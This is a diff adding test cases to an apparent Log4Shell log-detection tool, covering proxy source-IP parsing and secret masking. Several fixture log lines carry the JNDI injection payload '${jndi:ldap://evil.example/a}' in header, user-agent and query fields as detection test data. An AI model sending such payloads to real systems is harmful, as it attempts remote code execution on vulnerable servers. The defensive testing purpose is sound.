@@ -169,6 +169,13 @@ class Options(Case):
         self.assertEqual(self.events(log)[0]["source"]["ip"], "10.0.0.9")
         self.assertEqual(self.events("--trusted-proxy", "10.0.0.0/8", log)[0]["source"]["ip"], "203.0.113.5")
         self.assertEqual(self.events("--trusted-proxy", "10.0.0.9", log)[0]["source"]["ip"], "10.1.1.1")
+        for name, text in (  # what the attacker wrote goes before what the proxy appended, in one list or as a header of its own
+            ("combined.log", '10.0.0.9 - - [10/Dec/2021:14:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "m" "${jndi:ldap://evil.example/a}, 203.0.113.5"\n'),
+            ("caddy.log", '{"request":{"remote_ip":"10.0.0.9","headers":{"X-Forwarded-For":["${jndi:ldap://evil.example/a}","203.0.113.5"]}}}\n'),
+            ("iis.log", "#Fields: date time c-ip cs-uri-stem X-Forwarded-For\n2021-12-10 14:00:00 10.0.0.9 / ${jndi:ldap://evil.example/a},+203.0.113.5\n"),
+        ):
+            with self.subTest(name):
+                self.assertEqual(self.events("--trusted-proxy", "10.0.0.0/8", self.write(name, text))[0]["source"]["ip"], "203.0.113.5")
 
     def test_indicators_callbacks_and_own_scanners(self):
         log = self.write("m.log", "".join(attack(n, h) for n, h in enumerate(("a.one.example", "b.one.example", "192.0.2.77", "X.Two.example", "[2001:db8::7]"))))
@@ -206,7 +213,10 @@ class Options(Case):
     def test_masking(self):
         secret = "hunter2hunter2"
         log = self.write("s.log", line(1, path="?token=%s&q=${jndi:ldap://evil.example/a}" % secret))
+        signed_in = self.write("u.log", '192.0.2.1 - - [10/Dec/2021:14:00:00 +0000] "GET http://u:%s@shop.example/x HTTP/1.1" 200 1 "-" "${jndi:ldap://evil.example/a}"\n' % secret)
+        self.assertEqual(self.events(signed_in)[0]["url"]["domain"], "shop.example")
         for output in ("table", "ecs", "csv", "sarif"):
+            self.assertNotIn(secret, self.run_cli("detect", "-v", "--output", output, signed_in, status=1).stdout.decode())
             self.assertNotIn(secret, self.run_cli("detect", "-v", "--output", output, log, status=1).stdout.decode())
             shown = self.run_cli("detect", "-v", "--unmasked", "--output", output, log, status=1).stdout.decode()
             self.assertEqual(secret in shown, output != "table", output)  # the line for people shows the normal form
